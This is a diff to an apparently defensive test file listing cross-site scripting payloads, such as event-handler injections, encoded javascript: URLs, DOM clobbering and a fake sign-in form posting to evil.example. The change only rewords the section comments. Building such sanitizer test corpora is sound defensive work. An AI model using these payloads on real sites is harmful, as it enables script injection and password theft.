@@ -72,7 +72,7 @@ export const ATTACKS: string[] = [
   '<p popover onbeforetoggle=alert(1)>x</p>',
   '<isindex action=javascript:alert(1) type=image>',
   '<x contenteditable onfocus=alert(1) tabindex=1>x</x>',
-  // Handlers that need no hand.
+  // Handlers that run without user input.
   '<body onpageshow=alert(1)>',
   '<svg><animatetransform onbegin=alert(1) attributeName=transform>',
   '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
@@ -97,7 +97,7 @@ export const ATTACKS: string[] = [
   '<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>',
   '<svg><discard onbegin=alert(1)>',
   '<svg onunload=alert(1)></svg>',
-  // Handlers that wait for a hand.
+  // Handlers that need user input.
   '<p onclick=alert(1)>x</p>',
   '<p ONCLICK=alert(1)>x</p>',
   '<p onclick\n=\nalert(1)>x</p>',
@@ -110,7 +110,7 @@ export const ATTACKS: string[] = [
   '<label onclick=alert(1)>x</label>',
   '<summary onclick=alert(1)>x</summary>',
   '<p style=x onclick=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>x</p>',
-  // Addresses that run.
+  // URLs that run code.
   '<a href="javascript&colon;alert(1)">x</a>',
   '<a href="javascript&#58;alert(1)">x</a>',
   '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
@@ -220,7 +220,7 @@ export const ATTACKS: string[] = [
   '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}p{font-family:x}</style><p>x</p>',
   '<i data-css="</style><script>alert(1)</script>"></i>',
   '<i data-css="p{}}body{display:none}"></i><p>x</p>',
-  // What shadows a property of the page.
+  // Names that shadow a property of the page.
   '<img name=cookie><img name=body><img name=head>',
   '<a id=defaultView></a><a id=location href="javascript:alert(1)">x</a>',
   '<form id=trustedTypes><input name=defaultPolicy></form>',
@@ -230,7 +230,7 @@ export const ATTACKS: string[] = [
   '<form name=documentElement></form><embed name=createElement>',
   '<object name=querySelector></object><iframe name=alert></iframe>',
   '<div id=root></div><div id=__proto__></div><div id=constructor></div>',
-  // Forms that take what is typed elsewhere.
+  // Forms that send input to another origin.
   '<form action="//evil.example"><input type=password><button>Sign in</button></form>',
   '<button type=submit formaction=//evil.example form=x>x</button>',
   '<input form=x formaction=javascript:alert(1) type=submit>',
@@ -238,7 +238,7 @@ export const ATTACKS: string[] = [
   '<keygen autofocus onfocus=alert(1)>',
   '<button popovertarget=x>x</button><p popover id=x ontoggle=alert(1)>x</p>',
   '<button commandfor=x command=show-modal>x</button><dialog id=x ontoggle=alert(1)>x</dialog>',
-  // Page-builder markup that is none.
+  // Markup that only looks like the page builder's.
   '<div data-content-type="row" onclick=alert(1)><p onclick=alert(1)>x</p></div>',
   '<div data-content-type="text"><img src=x onerror=alert(1)></div>',
   '<div data-content-type="html">&lt;img src=x onerror=alert(1)&gt;</div>',
